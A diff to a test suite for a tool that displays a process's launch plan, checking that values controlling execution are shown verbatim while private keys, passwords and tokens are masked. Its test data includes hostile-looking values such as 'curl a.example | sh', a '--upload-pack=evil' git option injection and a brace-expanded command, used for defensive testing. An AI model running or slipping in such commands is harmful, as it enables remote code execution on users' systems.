@@ -154,6 +154,14 @@ describe('a launch plan', () => {
     ['RUN_KEY', 'run.example|bash'],
     ['START_TOKEN', './hook.js'],
     ['OTHER_TOKEN', 'a.example:8080'],
+    ['X_KEY', '{echo,203.0.113.5,-ox}'],
+    ['FILE_KEY', 'scripts/evil'],
+    ['HOST_KEY', '203.0.113.5'],
+    ['PORT_KEY', 'localhost:4444'],
+    ['GIT_TOKEN', 'git@a.example:a/b'],
+    ['OPTION_KEY', '--upload-pack=evil'],
+    ['WORD_KEY', 'reboot'],
+    ['PYTHONPATH', 'd41d8cd98f00b204e9800998ecf8427e'],
   ])('shows what decides what runs and where data goes: %s', (name, value) => {
     expect(linesOf(plan(stdio({ env: { [name]: value } })), 'Environment variables')).toEqual([`${name} = "${value}"`]);
   });
@@ -169,11 +177,33 @@ describe('a launch plan', () => {
     ]);
   });
 
+  test('masks the lines of a private key, but not commands behind its header', () => {
+    const begin = '-----BEGIN RSA PRIVATE KEY-----';
+    const lines = ['b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAA', 'MIIEpAIBAAKCAQEAmykeyhere0123456789+'];
+    const end = '-----END RSA PRIVATE KEY-----';
+    const env = {
+      APP_PRIVATE_KEY: [begin, 'Proc-Type: 4,ENCRYPTED', 'DEK-Info: AES-128-CBC,00FF', '', ...lines, end].join('\n'),
+      ONE_LINE: [begin, ...lines, end].join('\\n'),
+      ACCOUNT: JSON.stringify({ private_key: [begin, ...lines, end].join('\n'), type: 'service' }),
+      RUN_KEY: `${begin}\ncurl a.example | sh`,
+    };
+    expect(linesOf(plan(stdio({ env })), 'Environment variables')).toEqual([
+      `APP_PRIVATE_KEY = "<secret>\\n${end}"`,
+      `ONE_LINE = "<secret>\\\\n${end}"`,
+      `ACCOUNT = "{\\"private_key\\":\\"<secret>\\\\n${end}\\",\\"type\\":\\"service\\"}"`,
+      'RUN_KEY = "<secret>\\ncurl a.example | sh"',
+    ]);
+  });
+
   test('hides secrets in variables and headers', () => {
     const env = { DB_PASSWORD: 'pa55!', API_AUTH: 'Bearer k3Yq0aZ81mB7' };
     expect(linesOf(plan(stdio({ env })), 'Environment variables')).toEqual([
       'DB_PASSWORD = hidden; length in this file: 5',
       'API_AUTH = hidden; length in this file: 19',
+    ]);
+    const hexadecimal = 'd41d8cd98f00b204e9800998ecf8427e';
+    expect(linesOf(plan(stdio({ env: { OPENAI: hexadecimal } })), 'Environment variables')).toEqual([
+      'OPENAI = hidden; length in this file: 32',
     ]);
     const headers = { Authorization: 'Basic dXNlcjpwYXNz c2', 'X-Trace': 'on' };
     expect(linesOf(plan(http('https://a.example/', headers)), 'Headers')).toEqual([
